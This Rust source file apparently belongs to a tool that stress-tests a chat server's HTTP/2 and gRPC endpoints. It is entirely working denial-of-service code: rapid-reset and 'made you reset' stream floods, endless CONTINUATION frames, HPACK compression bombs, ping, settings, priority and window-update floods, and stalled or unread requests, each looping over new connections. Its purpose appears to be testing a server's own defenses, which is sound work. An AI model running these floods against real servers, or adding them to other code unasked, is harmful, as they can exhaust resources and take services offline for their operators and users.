//! Attacks with frames of HTTP/2.

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::attacks::Target;
use crate::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, GRPC, HEADERS, INITIAL_WINDOW_SIZE, MAX_WINDOW,
    PREFACE, PRIORITY, RST_STREAM, UNKNOWN, added, data, fields, frame, get, get_block, indexed, ping, reset,
    settings, signed_block, signed_call, whole, window_update,
};

/// The largest number of a stream before a new connection is needed.
const STREAMS: u32 = 1 << 20;

async fn connect(target: &Target, window: u32) -> TcpStream {
    let mut io = target.connect().await;
    let _ = io.write_all(&[PREFACE, &settings(&[(INITIAL_WINDOW_SIZE, window)])].concat()).await;
    io
}

/// Reads everything, and counts the codes with which streams and the connection end.
async fn read(target: &Target, io: &mut (impl AsyncRead + Unpin)) {
    let mut header = [0; 9];
    while io.read_exact(&mut header).await.is_ok() {
        let length = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
        let mut payload = vec![0; length];
        if io.read_exact(&mut payload).await.is_err() {
            return;
        }
        let code = |at: usize| payload.get(at).copied().unwrap_or_default();
        match header[3] {
            GOAWAY => target.seen.count(format!("GOAWAY {}", code(7))),
            RST_STREAM => target.seen.count(format!("RST_STREAM {}", code(3))),
            _ => {}
        }
    }
}

/// Sends the same again and reads what is answered, on one connection after the other.
async fn flood(target: &Target, start: Vec<u8>, again: Vec<u8>) {
    loop {
        let (mut reading, mut writing) = connect(target, 65_535).await.into_split();
        let _ = writing.write_all(&start).await;
        tokio::join!(target.flood(writing, &again), read(target, &mut reading));
    }
}

/// The same with streams, whose numbers grow.
async fn flood_of_streams(target: &Target, each: impl Fn(u32) -> Vec<u8>) {
    loop {
        let (mut reading, mut writing) = connect(target, 65_535).await.into_split();
        let flooding = async {
            for first in (1..STREAMS).step_by(128) {
                let some: Vec<_> = (first..first + 128).step_by(2).flat_map(&each).collect();
                if writing.write_all(&some).await.is_err() {
                    break;
                }
            }
            target.seen.count("cut off");
        };
        tokio::join!(flooding, read(target, &mut reading));
    }
}

/// Sends this and reads nothing, on one connection after the other.
async fn unread(target: &Target, window: u32, bytes: Vec<u8>) {
    loop {
        let mut io = connect(target, window).await;
        let _ = io.write_all(&bytes).await;
        target.trickle(io, &ping(b"anybody?")).await;
    }
}

fn call(target: &Target, stream: u32, path: &str) -> Vec<u8> {
    signed_call(stream, path, GRPC, &target.token)
}

pub(crate) async fn unread_answers(target: Target) {
    let gets = (0..500).flat_map(|number| whole(1 + 2 * number, &get_block("/openapi.json"))).collect();
    unread(&target, 0, gets).await;
}

pub(crate) async fn unread_pages(target: Target) {
    let page = fields(&[
        (":method", "GET"),
        (":scheme", "http"),
        (":path", &*format!("/v1/rooms/{}/messages?pageSize=100", target.room)),
        (":authority", "127.0.0.1"),
        ("authorization", &*format!("Bearer {}", target.token)),
    ]);
    let pages = (0..256).flat_map(|number| whole(1 + 2 * number, &page));
    let pages = window_update(0, MAX_WINDOW / 2).into_iter().chain(pages).collect();
    unread(&target, MAX_WINDOW, pages).await;
}

/// Messages of 128 KB of which 1 KB comes.
pub(crate) async fn stalled_bodies(target: Target) {
    let path = "/parlance.v1.ChatService/SendMessage";
    let begun = |stream: u32| {
        let body = [&[0, 0, 2, 0, 0][..], &[b' '; 1_000]].concat();
        [call(&target, stream, path), data(stream, &body)].concat()
    };
    let calls = (0..64).flat_map(|number| begun(1 + 2 * number)).collect();
    unread(&target, 65_535, calls).await;
}

pub(crate) async fn half_headers(target: Target) {
    let block = [&[0, 1, b'x', 0x7f, 0x80, 0x80, 0x40][..], &[b'y'; 16_377]].concat();
    let begun = frame(HEADERS, END_STREAM, 1, &block);
    let half = [begun, frame(CONTINUATION, 0, 1, &[b'y'; 16_384]).repeat(4)].concat();
    loop {
        let mut io = connect(&target, 0).await;
        let _ = io.write_all(&half).await;
        // Nothing but its end may follow: how it ends is read.
        read(&target, &mut io).await;
        target.seen.count("cut off");
    }
}

pub(crate) async fn silent_streams(target: Target) {
    let path = "/parlance.v1.ChatService/Chat";
    let calls = (0..256).flat_map(|number| call(&target, 1 + 2 * number, path)).collect();
    unread(&target, 65_535, calls).await;
}

pub(crate) async fn rapid_reset(target: Target) {
    flood_of_streams(&target, |stream| [get(stream), reset(stream, 8)].concat()).await;
}

/// The server resets streams itself, since their windows grow by nothing.
pub(crate) async fn made_you_reset(target: Target) {
    flood_of_streams(&target, |stream| [get(stream), window_update(stream, 0)].concat()).await;
}

pub(crate) async fn continuations(target: Target) {
    let begun = frame(HEADERS, 0, 1, &get_block("/healthz"));
    flood(&target, begun, frame(CONTINUATION, 0, 1, b"").repeat(1_000)).await;
}

/// Four kilobytes by one byte, thousands of times.
pub(crate) async fn compressed(target: Target) {
    let large = added(b"x", &[b'y'; 3_900]);
    let block = [get_block("/healthz"), large, indexed(62).repeat(12_000)].concat();
    flood_of_streams(&target, |stream| whole(stream, &block)).await;
}

/// Calls of 400 fields of a byte each, whose bodies never end.
pub(crate) async fn many_fields(target: Target) {
    let path = "/parlance.v1.ServerService/GetServer";
    let begun = |stream: u32| {
        let (begun, field) = (signed_block(path, GRPC, &target.token), added(b"a", b""));
        let block = [begun, field, indexed(62).repeat(400)].concat();
        [frame(HEADERS, END_HEADERS, stream, &block), data(stream, &[0; 4])].concat()
    };
    let calls = (0..98).flat_map(|number| begun(1 + 2 * number)).collect();
    unread(&target, 65_535, calls).await;
}

pub(crate) async fn unknown_frames(target: Target) {
    flood(&target, Vec::new(), frame(UNKNOWN, 0, 0, b"").repeat(1_000)).await;
}

pub(crate) async fn pings(target: Target) {
    flood(&target, Vec::new(), ping(b"12345678").repeat(1_000)).await;
}

pub(crate) async fn priorities(target: Target) {
    flood(&target, Vec::new(), frame(PRIORITY, 0, 1, &[0; 5]).repeat(1_000)).await;
}

pub(crate) async fn settings_flood(target: Target) {
    flood(&target, Vec::new(), settings(&[]).repeat(1_000)).await;
}

pub(crate) async fn window_updates(target: Target) {
    flood(&target, Vec::new(), window_update(0, 1).repeat(1_000)).await;
}

pub(crate) async fn empty_data(target: Target) {
    let chat = call(&target, 1, "/parlance.v1.ChatService/Chat");
    flood(&target, chat, frame(DATA, 0, 1, b"").repeat(1_000)).await;
}

/// A byte of a message at a time.
pub(crate) async fn tiny_data(target: Target) {
    let chat = call(&target, 1, "/parlance.v1.ChatService/Chat");
    flood(&target, chat, data(1, &[0]).repeat(1_000)).await;
}
